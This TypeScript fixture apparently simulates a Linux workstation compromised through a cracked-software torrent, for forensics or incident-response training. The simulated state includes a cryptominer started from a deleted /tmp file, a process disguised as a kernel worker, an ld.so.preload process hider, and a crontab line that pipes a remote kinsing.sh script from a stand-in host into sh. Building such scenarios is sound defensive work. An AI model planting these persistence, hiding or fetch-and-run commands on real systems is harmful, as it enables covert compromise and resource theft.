import { directory, file, type LinuxState, playedSha256 } from '../linux-state.ts';
import { type Clock, debianHost } from './linux-base.ts';

export const COMPROMISED = {
  address: '10.20.0.13',
  hostName: 'ws-build-04',
  user: 'bob',
  infoHash: 'c0ffee11d3b54a6e90d27f1b8a6655d4e3f20917',
  localPort: 6881,
  peer: { address: '203.0.113.190', port: 6889, transport: 'tcp' },
} as const;

/**
 * A torrent brought more than a film: beside the client runs a miner under a kernel-like name from a deleted file,
 * started by cron from /tmp and hidden by a preloaded library. This host must be preserved, never cleaned.
 */
export function linuxCompromised(clock: Clock): LinuxState {
  const { user, infoHash, peer, localPort, address } = COMPROMISED;
  const state = debianHost(clock, {
    hostName: COMPROMISED.hostName,
    address,
    user,
    role: 'workstation',
    bootedMinutesAgo: 8_700,
  });
  const home = `/home/${user}`;
  const settings = `${home}/.local/share/qBittorrent/BT_backup`;
  state.processes.push(
    {
      pid: 3120,
      parentPid: 1502,
      user,
      startedAt: clock.ago(4_310),
      executable: '/usr/bin/qbittorrent',
      executableSha256: playedSha256('qbittorrent'),
      commandLine: '/usr/bin/qbittorrent',
      sockets: [
        { transport: 'tcp', state: 'LISTEN', local: ['0.0.0.0', localPort] },
        { transport: 'udp', state: 'UNCONN', local: ['0.0.0.0', localPort] },
        { transport: 'tcp', state: 'ESTAB', local: [address, localPort], remote: [peer.address, peer.port] },
      ],
    },
    {
      pid: 9914,
      parentPid: 1,
      user,
      startedAt: clock.ago(4_120),
      executable: '/tmp/kdevtmpfsi',
      executableDeleted: true,
      executableSha256: playedSha256('kdevtmpfsi'),
      commandLine: '/tmp/kdevtmpfsi -o stratum+tcp://pool.minexmr.example:3333 --donate-level 1',
      sockets: [{ transport: 'tcp', state: 'ESTAB', local: [address, 51002], remote: ['203.0.113.66', 3333] }],
    },
    {
      pid: 9980,
      parentPid: 1,
      user,
      startedAt: clock.ago(4_119),
      executable: '/dev/shm/.x/kworkerds',
      name: '[kworker/2:0]',
      executableSha256: playedSha256('kworkerds'),
      commandLine: '[kworker/2:0]',
      sockets: [{ transport: 'tcp', state: 'LISTEN', local: ['0.0.0.0', 31337] }],
    },
  );
  Object.assign(state.files, {
    [`/var/spool/cron/crontabs/${user}`]: file(
      user,
      clock.ago(4_118),
      '* * * * * /tmp/.ICE-unix/.sync/update.sh >/dev/null 2>&1\n*/15 * * * * curl -fsSL http://203.0.113.66/kinsing.sh | sh\n',
      '0600',
    ),
    '/tmp/.ICE-unix/.sync/update.sh': file(
      user,
      clock.ago(4_118),
      { size: 2240, sha256: playedSha256('update.sh') },
      '0755',
    ),
    '/etc/ld.so.preload': file('root', clock.ago(4_117), '/usr/local/lib/libprocesshider.so\n'),
    '/usr/local/lib/libprocesshider.so': file(
      'root',
      clock.ago(4_117),
      { size: 16_552, sha256: playedSha256('libprocesshider') },
      '0755',
    ),
    '/dev/shm/.x/kworkerds': file(
      user,
      clock.ago(4_119),
      { size: 2_805_760, sha256: playedSha256('kworkerds') },
      '0755',
    ),
    [`${home}/Downloads/CAD.Suite.2026.cracked/keygen`]: file(
      user,
      clock.ago(4_130),
      { size: 1_204_224, sha256: playedSha256('keygen') },
      '0755',
    ),
    [`${home}/Downloads/CAD.Suite.2026.cracked.torrent`]: file(user, clock.ago(4_300), { size: 22_118 }),
    [settings]: directory(user, clock.ago(4_130), '0700'),
    [`${settings}/${infoHash}.torrent`]: file(user, clock.ago(4_299), { size: 22_090 }, '0600'),
    [`${settings}/${infoHash}.fastresume`]: file(user, clock.ago(4_130), { size: 3187 }, '0600'),
    '/usr/bin/qbittorrent': file(
      'root',
      clock.ago(60_000),
      { size: 7_340_032, sha256: playedSha256('qbittorrent') },
      '0755',
    ),
  });
  return { ...state, packages: [...state.packages, ['qbittorrent', '4.5.2-3+deb12u1']] };
}
